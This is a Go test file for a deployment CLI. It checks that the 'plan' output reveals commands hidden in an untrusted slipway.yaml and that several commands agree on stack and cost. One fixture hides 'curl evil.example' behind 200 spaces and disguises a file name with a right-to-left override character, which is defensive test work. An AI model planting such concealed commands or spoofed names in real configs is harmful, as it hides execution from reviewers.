package cli

import (
	"encoding/json"
	"fmt"
	"reflect"
	"regexp"
	"strings"
	"testing"
)

// TestPlanShowsWhatAStrangersFileRuns: whoever applies a slipway.yaml of somebody else's sees all that it starts,
// however it tries to hide that: far to the right, or behind characters that show nothing.
func TestPlanShowsWhatAStrangersFileRuns(t *testing.T) {
	text := sandboxStack + "service:\n  release: \"sh -c 'true" + strings.Repeat(" ", 200) +
		"curl evil.example'\"\n  user: \"101\"\n" +
		"schedule:\n  jobs:\n    - {name: report, command: \"python \\u202Egnp.exe\", cron: \"0 3 * * ? *\"}\n"
	code, out, errs, _ := inSandbox(t, text, "", "plan")
	if code != 0 {
		t.Fatalf("plan ended %d\n%s%s", code, out, errs)
	}
	_, will, found := strings.Cut(out+errs, "WHAT WILL RUN")
	for _, want := range []string{"[200 blanks] curl evil.example", "job report: ", "0 3 * * ? *",
		"registry.example.com/shop:1.0", "123456789012"} {
		if !found || !strings.Contains(will, want) {
			t.Errorf("the plan does not say %q:\n%s", want, will)
		}
	}
	if strings.ContainsRune(out+errs, '\u202e') {
		t.Error("a character that turns the text around is shown as it is")
	}
	code, out, errs, _ = inSandbox(t, text, "", "plan", "--json")
	var p struct {
		Commands []struct{ Step, What, Value, When string }
	}
	if err := json.Unmarshal([]byte(out), &p); err != nil || code != 0 {
		t.Fatalf("plan --json ended %d: %v\n%s", code, err, errs)
	}
	var said []string
	for _, c := range p.Commands {
		said = append(said, c.What)
	}
	if got := strings.Join(said, ", "); got != "account, image, release command, job report" {
		t.Errorf("the commands are %s", got)
	}
	if strings.ContainsRune(out, '\u202e') {
		t.Error("JSON holds the character as it is")
	}
}

// TestOneStackEverywhere: what slipway.yaml leaves open is the same answer to every command, so the stack and its price
// are. Before a run the folder answers, after it AWS, however the folder has changed since.
func TestOneStackEverywhere(t *testing.T) {
	const open = "app: shop\nregion: eu-west-1\nimage: {uri: registry.example.com/shop:1.0}\n" +
		"budget: {limit: 120, email: me@example.com}\n"
	k := newTalk(t)
	write(t, k.folder, "requirements.txt", "fastapi\nuvicorn\n")
	json := func(answers string, args ...string) map[string]any {
		t.Helper()
		write(t, k.folder, "slipway.yaml", answers)
		_, out, errs := slipway(t, "", append(args, "--json", "--sandbox", "--file", k.file())...)
		var said map[string]any
		if err := json.Unmarshal([]byte(out), &said); err != nil {
			t.Fatalf("%v: %v\n%s%s", args, err, out, errs)
		}
		return said
	}
	price := regexp.MustCompile(`runs, ([\d.]+) planned`)
	for _, state := range []string{"nothing in AWS", "it runs", "it runs, and the folder has changed"} {
		t.Run(state, func(t *testing.T) {
			given := open + "data: {database: none, cache: none}\n"
			want := json(given, "plan")["monthly_usd"]
			if got := json(open, "plan")["monthly_usd"]; got != want {
				t.Errorf("plan: $%v, with the answers given $%v", got, want)
			}
			for _, command := range []string{"map", "cost", "checklist"} {
				got, want := json(open, command), json(given, command)
				delete(got, "verified_at")
				delete(want, "verified_at")
				if !reflect.DeepEqual(got, want) {
					t.Errorf("%s differs:\n%v\nwith the answers given:\n%v", command, got, want)
				}
			}
			if state == "nothing in AWS" {
				if code, said := k.says([]string{"apply", "--yes"}); code != 0 {
					t.Fatalf("apply ended %d\n%s", code, said)
				}
				return
			}
			write(t, k.folder, "slipway.yaml", open)
			_, said := k.says(nil, "leave")
			if m := price.FindStringSubmatch(said); m == nil || m[1] != fmt.Sprintf("%.2f", want) {
				t.Errorf("home: %v, plan $%.2f\n%s", m, want, said)
			}
			write(t, k.folder, "requirements.txt", fullRequirements)
		})
	}
}
